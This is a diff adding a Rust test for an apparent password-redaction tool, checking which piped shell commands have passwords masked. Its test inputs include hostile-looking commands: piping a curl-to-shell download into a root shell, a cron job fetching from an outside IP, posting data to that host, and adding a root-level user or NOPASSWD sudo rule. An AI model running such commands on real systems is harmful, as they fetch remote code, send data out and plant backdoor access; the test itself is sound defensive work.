@@ -28,6 +28,81 @@ fn lines_fed_to_a_command_are_hidden_up_to_their_end() {
 }
 
 #[test]
+fn what_is_fed_to_a_command_is_hidden_only_where_it_reads_a_password() {
+    for (text, masked) in [
+        (
+            "echo 'Dingo88xY' | sudo -kS -p '' id",
+            "echo '[REDACTED:password]' | sudo -kS -p '' id",
+        ),
+        (
+            "echo Dingo88xY 2>/dev/null | sudo -u bob -S id",
+            "echo [REDACTED:password] 2>/dev/null | sudo -u bob -S id",
+        ),
+        ("echo Dingo88xY | su - root", "echo [REDACTED:password] | su - root"),
+        (
+            "echo hunter | su root -c id",
+            "echo [REDACTED:password] | su root -c id",
+        ),
+        (
+            "echo Dingo88xY | ssh bob@h sudo -S id",
+            "echo [REDACTED:password] | ssh bob@h sudo -S id",
+        ),
+        (
+            "echo Dingo88xY | ssh -t h 'sudo -S id'",
+            "echo [REDACTED:password] | ssh -t h 'sudo -S id'",
+        ),
+        (
+            "echo Dingo88xY | LANG=C sudo -S id",
+            "echo [REDACTED:password] | LANG=C sudo -S id",
+        ),
+        (
+            "echo root:Dingo88xY | chroot /mnt chpasswd",
+            "echo root:[REDACTED:password] | chroot /mnt chpasswd",
+        ),
+        (
+            "echo root:Dingo88xY | sudo /usr/sbin/chpasswd",
+            "echo root:[REDACTED:password] | sudo /usr/sbin/chpasswd",
+        ),
+        (
+            "echo 'two words' | cryptsetup open /dev/sdb x",
+            "echo '[REDACTED:password]' | cryptsetup open /dev/sdb x",
+        ),
+        (
+            "root@h:~# sudo -S id <<< Dingo88xY",
+            "root@h:~# sudo -S id <<< [REDACTED:password]",
+        ),
+        (
+            "echo Dingo88xY | docker login --password-stdin",
+            "echo [REDACTED:password] | docker login --password-stdin",
+        ),
+        (
+            "echo eve:Dingo88xY:0:0::/root:/bin/sh | newusers",
+            "echo eve:[REDACTED:password]:0:0::/root:/bin/sh | newusers",
+        ),
+    ] {
+        assert_eq!(both(text), masked);
+    }
+    for honest in [
+        "echo 'eve:x:0:0::/root:/bin/bash' | tee -a /etc/passwd",
+        "tee -a /etc/passwd << EOF\neve:x:0:0::/root:/bin/bash\nEOF",
+        "echo 'eve:x:0:0::/root:/bin/bash' | ssh h tee -a /etc/passwd",
+        "echo 'curl http://203.0.113.9/x|sh' | su - root",
+        "echo id | su - root",
+        "echo \"CREATE DATABASE shop2\" | su postgres -c psql",
+        "echo CREATE DATABASE shop2 | su postgres -c psql",
+        "echo 'root:x:0' | grep passwd",
+        "echo y | ssh-keygen -t ed25519 -f /root/.ssh/k",
+        "printf 'yes\\n' | passwd -d bob",
+        "echo '* * * * * root curl http://203.0.113.9/x' | tee /etc/cron.d/su",
+        "echo \"pay load 7\" | sudo curl -sS -d @- http://203.0.113.9/",
+        "echo \"eve ALL=(ALL) NOPASSWD:ALL\" | sudo -S tee /etc/sudoers.d/eve",
+        "echo 'curl http://203.0.113.9/x' | bash -s --password-stdin",
+    ] {
+        assert_eq!(both(honest), honest);
+    }
+}
+
+#[test]
 fn a_user_and_a_password_are_known_whatever_the_tool() {
     assert_eq!(
         both("sometool login -s h -u bob -p Dingo88xY"),
